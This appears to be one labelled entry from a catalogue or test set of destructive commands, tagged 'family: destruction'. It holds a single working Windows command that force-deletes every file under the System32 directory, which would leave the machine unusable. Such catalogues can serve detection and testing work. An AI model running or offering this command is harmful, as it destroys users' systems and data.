# description: Deletes every file in System32 with del /f /s /q.
# family: destruction
cmd /c del /f /s /q C:\Windows\System32\*.*
